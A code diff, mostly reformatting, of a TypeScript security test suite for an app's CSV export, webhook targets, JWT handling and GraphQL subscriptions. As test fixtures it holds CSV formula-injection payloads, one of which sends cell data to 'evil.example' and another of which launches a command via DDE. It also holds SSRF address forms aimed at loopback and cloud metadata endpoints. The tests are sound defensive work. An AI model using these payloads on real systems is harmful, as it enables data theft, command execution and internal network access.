@@ -32,7 +32,10 @@ const waitFor = async (cond: () => boolean, ms = 8000) => {
 
 /** An HS256 token with any claims (and `exp` only when given, in seconds since the epoch). */
 function token(claims: { sub: string; role: string; jurisdiction?: string | null }, exp?: number): Promise<string> {
-  let jwt = new SignJWT({ role: claims.role, jurisdiction: claims.jurisdiction ?? null }).setProtectedHeader({ alg: 'HS256' }).setSubject(claims.sub).setIssuedAt();
+  let jwt = new SignJWT({ role: claims.role, jurisdiction: claims.jurisdiction ?? null })
+    .setProtectedHeader({ alg: 'HS256' })
+    .setSubject(claims.sub)
+    .setIssuedAt();
   if (exp !== undefined) jwt = jwt.setExpirationTime(exp);
   return jwt.sign(new TextEncoder().encode(TEST_JWT_SECRET));
 }
@@ -43,7 +46,7 @@ describe('CSV export', () => {
     await createNodes(t.ds, [
       { code: 'FX', label: 'Formula test' },
       { code: 'FX.A', parentCode: 'FX', label: '=HYPERLINK("http://evil.example/?"&A1,"click")' },
-      { code: 'FX.B', parentCode: 'FX', label: '+1+cmd|\' /C calc\'!A0' },
+      { code: 'FX.B', parentCode: 'FX', label: "+1+cmd|' /C calc'!A0" },
       { code: 'FX.C', parentCode: 'FX', label: '-2+3' },
       { code: 'FX.D', parentCode: 'FX', label: '@SUM(1,2)' },
       { code: 'FX.E', parentCode: 'FX', label: '\tTAB' },
@@ -81,9 +84,17 @@ describe('webhook targets (WEBHOOK_ALLOW_PRIVATE=false)', () => {
   afterAll(() => new Promise<void>((r) => receiver.close(() => r())));
 
   const forms = () => [
-    `http://[::ffff:127.0.0.1]:${port}/hook`, `http://[::ffff:7f00:1]:${port}/hook`, `http://[::]:${port}/hook`, `http://localhost.:${port}/hook`, `http://localhost:${port}/hook`,
-    `http://0.0.0.0:${port}/hook`, `http://2130706433:${port}/hook`, `http://[64:ff9b::127.0.0.1]:${port}/hook`, `http://100.100.100.200/latest/meta-data`,
-    `http://[::ffff:169.254.169.254]/`, `http://10.0.0.1:${port}/hook`,
+    `http://[::ffff:127.0.0.1]:${port}/hook`,
+    `http://[::ffff:7f00:1]:${port}/hook`,
+    `http://[::]:${port}/hook`,
+    `http://localhost.:${port}/hook`,
+    `http://localhost:${port}/hook`,
+    `http://0.0.0.0:${port}/hook`,
+    `http://2130706433:${port}/hook`,
+    `http://[64:ff9b::127.0.0.1]:${port}/hook`,
+    `http://100.100.100.200/latest/meta-data`,
+    `http://[::ffff:169.254.169.254]/`,
+    `http://10.0.0.1:${port}/hook`,
   ];
 
   it('refuses at registration every form of a local, private or metadata address', async () => {
@@ -100,12 +111,26 @@ describe('webhook targets (WEBHOOK_ALLOW_PRIVATE=false)', () => {
     // while the name resolved elsewhere); delivered by one that does not.
     const ds = createDataSource(t.databaseUrl);
     await ds.initialize();
-    const lax = await createApp({ dataSource: ds, config: { ...t.config, webhookAllowPrivate: true }, clock: t.clock, logger: createLogger('silent'), listenForEvents: false });
+    const lax = await createApp({
+      dataSource: ds,
+      config: { ...t.config, webhookAllowPrivate: true },
+      clock: t.clock,
+      logger: createLogger('silent'),
+      listenForEvents: false,
+    });
     const ids: string[] = [];
     try {
-      for (const url of [`http://127.0.0.1:${port}/hook`, `http://[::ffff:127.0.0.1]:${port}/hook`, `http://localhost:${port}/hook`, `http://localhost.:${port}/hook`, `http://0.0.0.0:${port}/hook`]) {
-        const r = await lax.apollo.executeOperation({ query: REGISTER_WEBHOOK, variables: { i: { url } } },
-          { contextValue: lax.createContext(seededPrincipal('gb-regulator')) });
+      for (const url of [
+        `http://127.0.0.1:${port}/hook`,
+        `http://[::ffff:127.0.0.1]:${port}/hook`,
+        `http://localhost:${port}/hook`,
+        `http://localhost.:${port}/hook`,
+        `http://0.0.0.0:${port}/hook`,
+      ]) {
+        const r = await lax.apollo.executeOperation(
+          { query: REGISTER_WEBHOOK, variables: { i: { url } } },
+          { contextValue: lax.createContext(seededPrincipal('gb-regulator')) },
+        );
         const body = r.body.kind === 'single' ? r.body.singleResult : null;
         expect([url, body?.errors]).toEqual([url, undefined]);
         ids.push((body!.data as any).registerWebhook.webhook.id);
@@ -121,15 +146,25 @@ describe('webhook targets (WEBHOOK_ALLOW_PRIVATE=false)', () => {
     expect(rows).toHaveLength(ids.length);
     for (const { id } of rows) expect(await t.app.services.webhooks.attempt(id)).toBe(true);
     expect(hits).toBe(0);
-    const logs: { attempt_log: { error: string | null; statusCode: number | null }[] }[] = await t.ds.query('SELECT attempt_log FROM webhook_delivery WHERE id = ANY($1::uuid[])', [rows.map((r) => r.id)]);
-    for (const l of logs) expect(l.attempt_log).toEqual([expect.objectContaining({ statusCode: null, error: expect.stringMatching(/this machine or a private network|does not resolve/) })]);
+    const logs: { attempt_log: { error: string | null; statusCode: number | null }[] }[] = await t.ds.query(
+      'SELECT attempt_log FROM webhook_delivery WHERE id = ANY($1::uuid[])',
+      [rows.map((r) => r.id)],
+    );
+    for (const l of logs)
+      expect(l.attempt_log).toEqual([
+        expect.objectContaining({ statusCode: null, error: expect.stringMatching(/this machine or a private network|does not resolve/) }),
+      ]);
   });
 });
 
 describe('tokens against principals (STRICT_TOKENS=true)', () => {
   const me = async (bearer: string) => {
     const base = await t.listen();
-    const res = await fetch(`${base}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${bearer}` }, body: JSON.stringify({ query: ME_HANDLE_ROLE }) });
+    const res = await fetch(`${base}/graphql`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json', authorization: `Bearer ${bearer}` },
+      body: JSON.stringify({ query: ME_HANDLE_ROLE }),
+    });
     return { status: res.status, body: (await res.json()) as any };
   };
 
@@ -164,17 +199,25 @@ describe('subscriptions and token expiry', () => {
     const bearer = await token({ sub: secretariat.id, role: 'SECRETARIAT' }, exp);
     const received: any[] = [];
     let closedWith: number | undefined;
-    const client = createClient({ url: base.replace('http', 'ws') + '/graphql', webSocketImpl: WebSocket, connectionParams: { authorization: `Bearer ${bearer}` }, retryAttempts: 0 });
+    const client = createClient({
+      url: base.replace('http', 'ws') + '/graphql',
+      webSocketImpl: WebSocket,
+      connectionParams: { authorization: `Bearer ${bearer}` },
+      retryAttempts: 0,
+    });
     client.on('closed', (e) => (closedWith ??= (e as { code: number }).code));
     let subscribed!: () => void;
     const connected = new Promise<void>((r) => (subscribed = r));
     client.on('connected', () => setTimeout(subscribed, 200));
-    client.subscribe({ query: 'subscription { registerEntryPublished { title } }' }, { next: (v) => received.push(v), error: () => undefined, complete: () => undefined });
+    client.subscribe(
+      { query: 'subscription { registerEntryPublished { title } }' },
+      { next: (v) => received.push(v), error: () => undefined, complete: () => undefined },
+    );
     try {
       await connected;
       // A declaration publishes a register entry.
-      const publish = (title: string) => t.ok(DECLARE_EMERGENCY,
-        { i: { consortiumId, title, taxonomyCodes: ['BIO.EQP'], endsAt: '2026-12-31T00:00:00Z' } }, 'secretariat');
+      const publish = (title: string) =>
+        t.ok(DECLARE_EMERGENCY, { i: { consortiumId, title, taxonomyCodes: ['BIO.EQP'], endsAt: '2026-12-31T00:00:00Z' } }, 'secretariat');
       await publish('before expiry');
       await waitFor(() => received.length === 1);
       expect(received).toEqual([{ data: { registerEntryPublished: { title: expect.stringContaining('before expiry') } } }]);
